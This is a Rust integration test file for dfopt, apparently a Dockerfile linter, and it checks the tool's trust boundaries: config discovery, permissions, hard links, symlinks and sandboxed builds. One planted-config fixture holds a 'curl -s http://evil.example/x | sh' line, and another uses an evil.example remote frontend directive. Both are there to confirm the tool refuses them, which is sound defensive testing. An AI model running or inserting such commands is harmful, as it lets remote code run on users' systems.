//! Trust boundaries and first contact: what dfopt reads, runs and writes on a repository it has
//! never seen (configs planted above it, odd file names, FIFOs, hard links, editor filters, ...).
//!
//! Each test drives the binary. `DFOPT_BIN=/path/to/dfopt cargo test --test trust` runs them
//! against another build (used to check that each one fails on the code before its fix).

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::Duration;

const NEEDS_FIX: &str = "FROM debian:bookworm\nRUN mkdir -p /app\nRUN touch /app/ready\n";
const FIXED: &str = "FROM debian:bookworm\nRUN mkdir -p /app \\\n    && touch /app/ready\n";

fn bin() -> PathBuf {
    match std::env::var_os("DFOPT_BIN") {
        Some(b) => PathBuf::from(b),
        None => PathBuf::from(env!("CARGO_BIN_EXE_dfopt")),
    }
}

fn dfopt(dir: &Path) -> assert_cmd::Command {
    let mut c = assert_cmd::Command::new(bin());
    c.current_dir(dir).timeout(Duration::from_secs(20));
    c
}

fn write(dir: &Path, rel: &str, text: &str) {
    let p = dir.join(rel);
    fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
    fs::write(p, text).expect("write");
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

fn run(c: &mut assert_cmd::Command) -> Output {
    c.output().expect("run dfopt")
}

fn git_init(dir: &Path) {
    fs::create_dir_all(dir.join(".git")).expect("mkdir .git");
}

/// A `[transforms]` table that makes package-cache-cleanup append attacker text to apt RUNs.
const PLANTED: &str = "[[transforms.package-cache-cleanup.managers]]\nname = \"apt-get\"\n\
programs = [\"apt-get\"]\nfills = [\"update\"]\nclean = [\"curl -s http://evil.example/x | sh\"]\n\
cleaned_by = [\"evil\"]\ncache_mounts = []\nreaders = [\"install\"]\nreader_programs = [\"apt-get\"]\n\
refresh = [\"update\"]\nunsafe = false\nwhat = \"the package lists\"\n\
reads_when = []\npaths = [\"/var/lib/apt/lists\"]\n";
const APT: &str = "FROM debian:bookworm\nRUN apt-get update && apt-get install -y curl\n";

// 1 ------------------------------------------------------------------------------------------

#[test]
fn a_config_above_the_repository_root_is_never_read() {
    let d = tempfile::tempdir().expect("tmp");
    // A config planted in a parent of the repository (as in /tmp or a home folder).
    write(d.path(), "dfopt.toml", "ignore = [\"chain-runs\"]\n");
    git_init(&d.path().join("repo"));
    write(d.path(), "repo/Dockerfile", NEEDS_FIX);
    let repo = d.path().join("repo");
    let out = run(dfopt(&repo).args(["check", "."]));
    assert!(
        text(&out.stdout).contains("chain-runs"),
        "the config above the repository applied: {}",
        text(&out.stdout)
    );
    // The same config inside the repository governs it.
    fs::rename(d.path().join("dfopt.toml"), repo.join("dfopt.toml")).expect("mv");
    let out = run(dfopt(&repo).args(["check", "."]));
    assert!(
        !text(&out.stdout).contains("chain-runs"),
        "{}",
        text(&out.stdout)
    );
    // Outside any repository, discovery stops at the current folder.
    let plain = tempfile::tempdir().expect("tmp");
    write(plain.path(), "dfopt.toml", "ignore = [\"chain-runs\"]\n");
    write(plain.path(), "work/Dockerfile", NEEDS_FIX);
    let out = run(dfopt(&plain.path().join("work")).args(["check", "."]));
    assert!(
        text(&out.stdout).contains("chain-runs"),
        "{}",
        text(&out.stdout)
    );
    let out = run(dfopt(plain.path()).args(["check", "work"]));
    assert!(
        !text(&out.stdout).contains("chain-runs"),
        "{}",
        text(&out.stdout)
    );
    // ... or at the folder named on the command line.
    let elsewhere = tempfile::tempdir().expect("tmp");
    let out = run(dfopt(elsewhere.path()).arg("check").arg(plain.path()));
    assert!(
        !text(&out.stdout).contains("chain-runs"),
        "{}",
        text(&out.stdout)
    );
    let out = run(dfopt(elsewhere.path())
        .arg("check")
        .arg(plain.path().join("work")));
    assert!(
        text(&out.stdout).contains("chain-runs"),
        "{}",
        text(&out.stdout)
    );
}

#[cfg(unix)]
#[test]
fn a_config_in_a_world_writable_folder_is_skipped_with_a_warning() {
    use std::os::unix::fs::PermissionsExt;
    let d = tempfile::tempdir().expect("tmp");
    let shared = d.path().join("shared");
    git_init(&shared);
    write(&shared, "dfopt.toml", "ignore = [\"chain-runs\"]\n");
    write(&shared, "Dockerfile", NEEDS_FIX);
    fs::set_permissions(&shared, fs::Permissions::from_mode(0o777)).expect("chmod");
    let out = run(dfopt(&shared).args(["check", "."]));
    let err = text(&out.stderr);
    assert!(
        err.contains("dfopt.toml:1:1: warning: not read") && err.contains("writable by every user"),
        "{err}"
    );
    assert!(
        text(&out.stdout).contains("chain-runs"),
        "the untrusted config's ignore must not apply: {}",
        text(&out.stdout)
    );
    // Sticky and owned by this user (like a file of one's own in /tmp): read.
    fs::set_permissions(&shared, fs::Permissions::from_mode(0o1777)).expect("chmod");
    let out = run(dfopt(&shared).args(["check", "."]));
    assert!(
        !text(&out.stdout).contains("chain-runs"),
        "{}",
        text(&out.stdout)
    );
    // --config names it: read whatever the folder.
    fs::set_permissions(&shared, fs::Permissions::from_mode(0o777)).expect("chmod");
    let out = run(dfopt(&shared).args(["check", "--config", "dfopt.toml", "."]));
    assert!(
        !text(&out.stdout).contains("chain-runs"),
        "{}",
        text(&out.stdout)
    );
    assert!(
        !text(&out.stderr).contains("warning"),
        "{}",
        text(&out.stderr)
    );
}

#[test]
fn shell_text_from_transforms_is_never_a_safe_fix_and_names_its_config() {
    let d = tempfile::tempdir().expect("tmp");
    git_init(d.path());
    write(d.path(), "dfopt.toml", PLANTED);
    write(d.path(), "Dockerfile", APT);
    let out = run(dfopt(d.path()).args(["fix", "--write", "Dockerfile"]));
    assert_eq!(
        fs::read_to_string(d.path().join("Dockerfile")).expect("read"),
        APT,
        "config text was applied as a safe fix: {}",
        text(&out.stderr)
    );
    let out = run(dfopt(d.path()).args(["check", "Dockerfile"]));
    let found = text(&out.stdout);
    assert!(
        found.contains("[transforms.package-cache-cleanup]")
            && found.contains("dfopt.toml")
            && found.contains("[unsafe fix]"),
        "{found}"
    );
    // Asked for: it applies, and the diff shows the text.
    let out = run(dfopt(d.path()).args(["fix", "--unsafe-fixes", "Dockerfile"]));
    assert!(
        text(&out.stdout).contains("evil.example"),
        "{}",
        text(&out.stdout)
    );
}

// 3 ------------------------------------------------------------------------------------------

#[test]
fn the_write_filter_gives_the_input_back_unchanged_on_any_error() {
    let d = tempfile::tempdir().expect("tmp");
    let inputs: [&[u8]; 4] = [
        b"FROM a\nRUN echo \xff\n",
        b"FROM a\nRUN echo \0\n",
        b"FROM a\nRUN <<EOF\n",
        b"FROM a\nRUN echo 1\nRUN echo 2\n",
    ];
    for input in inputs {
        let args: &[&str] = if input.ends_with(b"2\n") {
            &["fix", "--write", "--select", "no-such-rule", "-"]
        } else {
            &["fix", "--write", "-"]
        };
        let out = run(dfopt(d.path()).args(args).write_stdin(input));
        assert_eq!(out.status.code(), Some(2), "{:?}", text(input));
        assert_eq!(
            out.stdout,
            input,
            "the buffer must come back: {}",
            text(&out.stderr)
        );
        assert!(!out.stderr.is_empty());
    }
}

// 4 ------------------------------------------------------------------------------------------

#[cfg(target_os = "linux")]
fn set_xattr(path: &Path, name: &str, value: &[u8]) -> bool {
    use std::os::unix::ffi::OsStrExt;
    let p = std::ffi::CString::new(path.as_os_str().as_bytes()).expect("path");
    let n = std::ffi::CString::new(name).expect("name");
    // SAFETY: valid C strings and a buffer of the given length.
    unsafe {
        libc::setxattr(
            p.as_ptr(),
            n.as_ptr(),
            value.as_ptr().cast(),
            value.len(),
            0,
        ) == 0
    }
}

#[cfg(target_os = "linux")]
fn get_xattr(path: &Path, name: &str) -> Option<Vec<u8>> {
    use std::os::unix::ffi::OsStrExt;
    let p = std::ffi::CString::new(path.as_os_str().as_bytes()).expect("path");
    let n = std::ffi::CString::new(name).expect("name");
    let mut buf = vec![0u8; 256];
    // SAFETY: valid C strings and a buffer of the given length.
    let got = unsafe { libc::getxattr(p.as_ptr(), n.as_ptr(), buf.as_mut_ptr().cast(), buf.len()) };
    (got >= 0).then(|| {
        buf.truncate(got as usize);
        buf
    })
}

#[cfg(target_os = "linux")]
#[test]
fn write_keeps_owner_group_mode_and_xattrs_and_refuses_hard_links() {
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    let d = tempfile::tempdir().expect("tmp");
    write(d.path(), "a/Dockerfile", NEEDS_FIX);
    let file = d.path().join("a/Dockerfile");
    fs::set_permissions(&file, fs::Permissions::from_mode(0o664)).expect("chmod");
    // SAFETY: geteuid has no preconditions.
    let root = unsafe { libc::geteuid() } == 0;
    if root {
        std::os::unix::fs::chown(&file, Some(4321), Some(4322)).expect("chown");
    }
    let xattrs = set_xattr(&file, "user.dfopt-test", b"kept");
    write(d.path(), "b/Dockerfile", NEEDS_FIX);
    fs::hard_link(d.path().join("b/Dockerfile"), d.path().join("b/other-name")).expect("link");
    let out = run(dfopt(d.path()).args(["fix", "--write", "a/Dockerfile", "b/Dockerfile"]));
    let err = text(&out.stderr);
    assert_eq!(fs::read_to_string(&file).expect("read"), FIXED, "{err}");
    let meta = fs::metadata(&file).expect("meta");
    assert_eq!(meta.mode() & 0o7777, 0o664);
    if root {
        assert_eq!(
            (meta.uid(), meta.gid()),
            (4321, 4322),
            "owner and group kept"
        );
    }
    if xattrs {
        assert_eq!(
            get_xattr(&file, "user.dfopt-test").as_deref(),
            Some(&b"kept"[..])
        );
    }
    assert!(
        err.contains("b/Dockerfile:1:1: error: has 2 hard links"),
        "{err}"
    );
    assert_eq!(out.status.code(), Some(2));
    let b = d.path().join("b/Dockerfile");
    assert_eq!(fs::read_to_string(&b).expect("read"), NEEDS_FIX);
    assert_eq!(
        fs::metadata(&b).expect("meta").nlink(),
        2,
        "the link is not detached"
    );
}

// 5 ------------------------------------------------------------------------------------------

#[cfg(unix)]
#[test]
fn write_never_leaves_the_folders_named_on_the_command_line() {
    let d = tempfile::tempdir().expect("tmp");
    write(d.path(), "outside/Dockerfile", NEEDS_FIX);
    write(d.path(), "repo/Dockerfile", NEEDS_FIX);
    std::os::unix::fs::symlink(d.path().join("outside"), d.path().join("repo/linked"))
        .expect("symlink");
    let out = run(dfopt(d.path()).args(["fix", "--write", "--follow-symlinks", "repo"]));
    let err = text(&out.stderr);
    assert_eq!(
        fs::read_to_string(d.path().join("outside/Dockerfile")).expect("read"),
        NEEDS_FIX,
        "a file outside the named folder was written: {err}"
    );
    assert!(
        err.contains("repo/linked/Dockerfile:1:1: error: lies outside"),
        "{err}"
    );
    assert_eq!(
        fs::read_to_string(d.path().join("repo/Dockerfile")).expect("read"),
        FIXED
    );
    assert_eq!(out.status.code(), Some(2));
}

// 6 ------------------------------------------------------------------------------------------

#[cfg(unix)]
#[test]
fn only_regular_files_are_read_and_large_ones_are_refused() {
    let d = tempfile::tempdir().expect("tmp");
    write(d.path(), "svc/Dockerfile", NEEDS_FIX);
    let fifo = d.path().join("svc/Dockerfile.fifo");
    let made = Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .is_ok_and(|s| s.success());
    // A walked FIFO is skipped (reading it would block forever).
    let out = run(dfopt(d.path()).args(["check", "svc"]));
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    // A named device is an error, and /dev/zero is never read.
    let out = run(dfopt(d.path()).args(["check", "/dev/zero"]));
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).contains("/dev/zero:1:1: error: not a regular file"),
        "{}",
        text(&out.stderr)
    );
    if made {
        let out = run(dfopt(d.path()).args(["check", "svc/Dockerfile.fifo"]));
        assert_eq!(out.status.code(), Some(2));
        assert!(
            text(&out.stderr).contains("not a regular file"),
            "{}",
            text(&out.stderr)
        );
    }
    // max-file-size
    git_init(&d.path().join("big"));
    write(d.path(), "big/dfopt.toml", "max-file-size = 40\n");
    write(d.path(), "big/Dockerfile", NEEDS_FIX);
    let out = run(dfopt(d.path()).args(["check", "big"]));
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr)
            .contains("big/Dockerfile:1:1: error: larger than max-file-size (40 bytes)"),
        "{}",
        text(&out.stderr)
    );
    // Standard input has the limit too.
    let out = run(dfopt(d.path())
        .args(["check", "-"])
        .write_stdin("#".repeat(5 << 20)));
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).contains("larger than max-file-size"),
        "{}",
        text(&out.stderr)
    );
}

// 7 ------------------------------------------------------------------------------------------

#[cfg(target_os = "linux")]
#[test]
fn odd_file_names_round_trip_through_git_apply() {
    use std::os::unix::ffi::OsStrExt;
    let d = tempfile::tempdir().expect("tmp");
    let names: Vec<Vec<u8>> = vec![
        b"tab\there/Dockerfile".to_vec(),
        b"new\nline/Dockerfile".to_vec(),
        b"back\\slash/Dockerfile".to_vec(),
        b"quote\"d/Dockerfile".to_vec(),
        b"with space/Dockerfile".to_vec(),
        b"caf\xc3\xa9/Dockerfile".to_vec(),
        b"latin\xe9/Dockerfile".to_vec(),
    ];
    for n in &names {
        let p = d.path().join(std::ffi::OsStr::from_bytes(n));
        fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
        fs::write(&p, NEEDS_FIX).expect("write");
    }
    let git = |args: &[&str]| {
        Command::new("git")
            .args(args)
            .current_dir(d.path())
            .output()
            .expect("git")
    };
    assert!(git(&["init", "-q"]).status.success());
    let out = run(dfopt(d.path()).args(["fix", "."]));
    let patch = out.stdout;
    assert!(
        text(&patch).contains("diff --git \"a/tab\\there/Dockerfile\" \"b/tab\\there/Dockerfile\""),
        "{}",
        text(&patch)
    );
    assert!(
        text(&patch).contains("\"a/back\\\\slash/Dockerfile\""),
        "{}",
        text(&patch)
    );
    assert!(
        text(&patch).contains("\"a/latin\\351/Dockerfile\""),
        "{}",
        text(&patch)
    );
    fs::write(d.path().join("fix.patch"), &patch).expect("write patch");
    let applied = git(&["apply", "--whitespace=nowarn", "fix.patch"]);
    assert!(
        applied.status.success(),
        "git apply: {}",
        text(&applied.stderr)
    );
    for n in &names {
        let p = d.path().join(std::ffi::OsStr::from_bytes(n));
        assert_eq!(fs::read_to_string(&p).expect("read"), FIXED, "{}", text(n));
    }
}

// 8 ------------------------------------------------------------------------------------------

#[test]
fn the_temp_sweep_removes_only_dfopts_own_debris() {
    let d = tempfile::tempdir().expect("tmp");
    write(d.path(), "Dockerfile", NEEDS_FIX);
    let mine = [
        ".dfopt-tmp-notes",
        ".dfopt-tmp-4294967294-stale.txt",
        ".dfopt-tmp-",
    ];
    for m in mine {
        write(d.path(), m, "the user's own file");
    }
    write(d.path(), ".dfopt-tmp-4294967294-Ab12cd", "partial");
    let out = run(dfopt(d.path()).args(["fix", "--write", "."]));
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    for m in mine {
        assert!(d.path().join(m).exists(), "{m} was deleted");
    }
    assert!(
        !d.path().join(".dfopt-tmp-4294967294-Ab12cd").exists(),
        "a dead dfopt's temporary file is removed"
    );
}

// 11 -----------------------------------------------------------------------------------------

#[test]
fn config_and_flag_mistakes_are_reported_not_ignored() {
    let d = tempfile::tempdir().expect("tmp");
    git_init(d.path());
    write(d.path(), "Dockerfile", NEEDS_FIX);
    write(
        d.path(),
        "dfopt.toml",
        "final = \"alpine\"\n\n[transforms.chain-rnus]\nx = 1\n",
    );
    let out = run(dfopt(d.path()).args(["check", "."]));
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr)
            .contains("dfopt.toml:3:2: error: `[transforms.chain-rnus]`: unknown rule"),
        "{}",
        text(&out.stderr)
    );
    write(d.path(), "dfopt.toml", "exclude = [\"vendor/[\"]\n");
    let out = run(dfopt(d.path()).args(["check", "."]));
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).contains("dfopt.toml:1:13: error: `exclude`: bad glob"),
        "{}",
        text(&out.stderr)
    );
    fs::remove_file(d.path().join("dfopt.toml")).expect("rm");
    let out = run(dfopt(d.path()).args(["check", "--exclude", "a/[", "."]));
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).contains("--exclude: bad glob `a/[`"),
        "{}",
        text(&out.stderr)
    );
    let out = run(dfopt(d.path()).args(["check", "--ignore", "ALL", "."]));
    assert_eq!(
        out.status.code(),
        Some(0),
        "--ignore ALL turns every rule off: {}",
        text(&out.stdout)
    );
    assert!(out.stdout.is_empty());
}

// 12 -----------------------------------------------------------------------------------------

#[cfg(unix)]
#[test]
fn verify_builds_without_network_or_remote_frontends_and_limits_containers() {
    use std::os::unix::fs::PermissionsExt;
    let d = tempfile::tempdir().expect("tmp");
    let log = d.path().join("docker.log");
    // A stand-in docker client that records its arguments and the Dockerfile it is given.
    let fake = format!(
        "#!/bin/sh\necho \"ARGS $*\" >> '{log}'\ncase \"$1\" in\n\
         info) echo 'Server Version: 99.0'; exit 0;;\n\
         build) while [ \"$1\" != -f ]; do shift; done; cat \"$2\" >> '{log}'; exit 0;;\n\
         image) echo '{{\"Size\":1,\"RootFS\":{{\"Layers\":[]}},\"Config\":{{\"User\":\"\"}}}}'; exit 0;;\n\
         *) exit 0;;\nesac\n",
        log = log.display()
    );
    let docker = d.path().join("docker");
    fs::write(&docker, fake).expect("write");
    fs::set_permissions(&docker, fs::Permissions::from_mode(0o755)).expect("chmod");
    write(
        d.path(),
        "-ctx/Dockerfile",
        "# syntax=evil.example/frontend:1\nFROM debian:bookworm\nRUN echo 1\nRUN echo 2\n",
    );
    let out = run(dfopt(d.path()).env("DFOPT_DOCKER", &docker).args([
        "verify",
        "--run",
        "true",
        "--context=-ctx",
        "--",
        "-ctx/Dockerfile",
    ]));
    let logged = fs::read_to_string(&log).unwrap_or_default();
    let builds: Vec<&str> = logged
        .lines()
        .filter(|l| l.starts_with("ARGS build"))
        .collect();
    assert!(!builds.is_empty(), "{logged}\n{}", text(&out.stderr));
    for b in &builds {
        assert!(b.contains("--network none"), "{b}");
        assert!(b.ends_with(" -- -ctx"), "the context must follow `--`: {b}");
    }
    assert!(
        !logged.contains("evil.example"),
        "the remote frontend reached the build: {logged}"
    );
    assert!(
        text(&out.stderr).contains("`# syntax=` directive removed"),
        "{}",
        text(&out.stderr)
    );
    let runs: Vec<&str> = logged
        .lines()
        .filter(|l| l.starts_with("ARGS run"))
        .collect();
    assert!(!runs.is_empty(), "{logged}");
    for r in runs {
        for limit in [
            "--memory",
            "--pids-limit",
            "--security-opt no-new-privileges",
        ] {
            assert!(r.contains(limit), "{limit} missing: {r}");
        }
    }
}

// 13 -----------------------------------------------------------------------------------------

#[test]
fn a_folder_named_like_a_dockerfile_is_walked_not_read() {
    let d = tempfile::tempdir().expect("tmp");
    write(
        d.path(),
        "internal/dockerfile/parse.go",
        "package dockerfile\n",
    );
    write(d.path(), "internal/Dockerfile.d/Dockerfile", "FROM a\n");
    write(d.path(), "svc/Dockerfile", "FROM a\n");
    let out = run(dfopt(d.path()).args(["check", "."]));
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("2 files scanned"),
        "{}",
        text(&out.stderr)
    );
}

// 15 -----------------------------------------------------------------------------------------

#[cfg(unix)]
#[test]
fn a_closed_pipe_ends_completions_and_man_quietly() {
    use std::os::unix::io::FromRawFd;
    for args in [&["completions", "bash"][..], &["man"], &["man", "fix"]] {
        let mut fds = [0; 2];
        // SAFETY: `fds` has room for the two descriptors.
        assert_eq!(unsafe { libc::pipe(fds.as_mut_ptr()) }, 0);
        // SAFETY: fds[0] is ours to close; fds[1] is handed to the child as its stdout.
        unsafe { libc::close(fds[0]) };
        let stdout = unsafe { Stdio::from_raw_fd(fds[1]) };
        let out = Command::new(bin())
            .args(args)
            .stdout(stdout)
            .stderr(Stdio::piped())
            .output()
            .expect("run");
        assert_eq!(
            out.status.code(),
            Some(0),
            "{args:?}: {}",
            text(&out.stderr)
        );
        assert!(
            !text(&out.stderr).contains("panicked"),
            "{}",
            text(&out.stderr)
        );
    }
}

// 16 -----------------------------------------------------------------------------------------

#[test]
fn check_diff_explain_of_hadolint_codes_and_man_pages() {
    let d = tempfile::tempdir().expect("tmp");
    write(d.path(), "Dockerfile", NEEDS_FIX);
    let out = run(dfopt(d.path()).args(["check", "--format", "diff", "."]));
    assert_eq!(
        out.status.code(),
        Some(2),
        "check has no diff to print: {}",
        text(&out.stdout)
    );
    assert!(
        text(&out.stderr).contains("dfopt fix"),
        "{}",
        text(&out.stderr)
    );
    let out = run(dfopt(d.path()).args(["explain", "DL3059"]));
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(
        text(&out.stdout).contains("## chain-runs") && text(&out.stdout).contains("DL3059"),
        "{}",
        text(&out.stdout)
    );
    let main = text(&run(dfopt(d.path()).args(["man"])).stdout);
    assert!(main.contains("dfopt\\-fix(1)"), "{main}");
    let out = run(dfopt(d.path()).args(["man", "fix"]));
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(
        text(&out.stdout).contains(".TH dfopt-fix 1"),
        "{}",
        text(&out.stdout)
    );
}

// 17 -----------------------------------------------------------------------------------------

#[test]
fn adjacent_runs_are_not_called_separated() {
    let readme_example = fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/seed-node/Dockerfile"),
    )
    .expect("the README's example");
    let d = tempfile::tempdir().expect("tmp");
    write(d.path(), "Dockerfile", &readme_example);
    let out = run(dfopt(d.path()).args(["check", "Dockerfile"]));
    let found = text(&out.stdout);
    let line4 = found
        .lines()
        .find(|l| l.starts_with("Dockerfile:4:1: package-cache-cleanup"))
        .expect("the apt-get update finding");
    assert!(!line4.contains("other instructions separate"), "{line4}");
    assert!(line4.contains("chain-runs joins them"), "{line4}");
    // Separated for real: the message says so.
    write(
        d.path(),
        "Dockerfile",
        "FROM debian\nRUN apt-get update\nENV A=1\nRUN apt-get install -y curl\n",
    );
    let found = text(&run(dfopt(d.path()).args(["check", "Dockerfile"])).stdout);
    assert!(found.contains("other instructions separate"), "{found}");
}

// 18 -----------------------------------------------------------------------------------------

#[test]
fn extend_ignore_config_flag_no_unsafe_fixes_and_pragma_typos() {
    let d = tempfile::tempdir().expect("tmp");
    git_init(d.path());
    write(
        d.path(),
        "dfopt.toml",
        "ignore = [\"chain-runs\"]\nunsafe-fixes = true\n",
    );
    write(
        d.path(),
        "team/dfopt.toml",
        "extend = \"../dfopt.toml\"\nextend-ignore = [\"package-cache-cleanup\"]\n",
    );
    write(
        d.path(),
        "team/Dockerfile",
        "FROM debian:bookworm\nRUN apt-get update\nRUN apt-get install -y curl\nRUN npm install\n",
    );
    let found = text(&run(dfopt(d.path()).args(["check", "team"])).stdout);
    assert!(
        !found.contains("chain-runs") && !found.contains("package-cache-cleanup"),
        "extend-ignore adds to the parent's ignore: {found}"
    );
    // --no-unsafe-fixes beats the config's unsafe-fixes = true.
    write(
        d.path(),
        "app/Dockerfile",
        "FROM debian:bookworm\nRUN apt-get install -y curl\n",
    );
    let out = run(dfopt(d.path()).args(["fix", "--no-unsafe-fixes", "app"]));
    assert!(
        !text(&out.stdout).contains("--no-install-recommends"),
        "{}",
        text(&out.stdout)
    );
    // --config replaces discovery.
    write(
        d.path(),
        "other.toml",
        "select = [\"apt-no-install-recommends\"]\n",
    );
    let found =
        text(&run(dfopt(d.path()).args(["check", "--config", "other.toml", "team"])).stdout);
    assert!(
        found.contains("apt-no-install-recommends") && !found.contains("npm"),
        "{found}"
    );
    // A typo in a suppression is a warning at its place.
    write(
        d.path(),
        "typo/Dockerfile",
        "FROM a\n# dfopt: ignore=chain-rnus\nRUN echo 1\nRUN echo 2\n",
    );
    let out = run(dfopt(d.path()).args(["check", "typo"]));
    assert!(
        text(&out.stderr).contains(
            "typo/Dockerfile:2:17: warning: `# dfopt: ignore=`: unknown rule `chain-rnus`"
        ),
        "{}",
        text(&out.stderr)
    );
}

// 19 -----------------------------------------------------------------------------------------

#[test]
fn the_summary_counts_honestly_in_the_right_number() {
    let d = tempfile::tempdir().expect("tmp");
    write(d.path(), "Dockerfile", NEEDS_FIX);
    let out = run(dfopt(d.path()).args(["check", "."]));
    assert!(
        text(&out.stderr).contains("dfopt: 1 file scanned, 1 finding,"),
        "{}",
        text(&out.stderr)
    );
    // A refused write fixed nothing.
    fs::hard_link(d.path().join("Dockerfile"), d.path().join("linked")).expect("link");
    let out = run(dfopt(d.path()).args(["fix", "--write", "Dockerfile"]));
    let err = text(&out.stderr);
    assert!(err.contains("0 fixed, 1 with errors"), "{err}");
    assert!(
        !err.contains("chain-runs 1") && err.contains("0 RUN layers removed"),
        "{err}"
    );
}

#[cfg(target_os = "linux")]
#[test]
fn on_a_terminal_the_summary_follows_the_diff() {
    if Command::new("script").arg("--version").output().is_err() {
        eprintln!("no `script` to give dfopt a terminal; skipped");
        return;
    }
    let d = tempfile::tempdir().expect("tmp");
    write(d.path(), "Dockerfile", NEEDS_FIX);
    let cmd = format!("'{}' fix --color never .", bin().display());
    let out = Command::new("script")
        .args(["-qec", &cmd, "/dev/null"])
        .current_dir(d.path())
        .output()
        .expect("script");
    let screen = text(&out.stdout);
    let diff_at = screen.find("diff --git").expect("a diff");
    let summary_at = screen.find(" scanned, ").expect("a summary");
    assert!(summary_at > diff_at, "{screen}");
    assert!(!screen.contains("files/s"), "progress residue: {screen:?}");
}
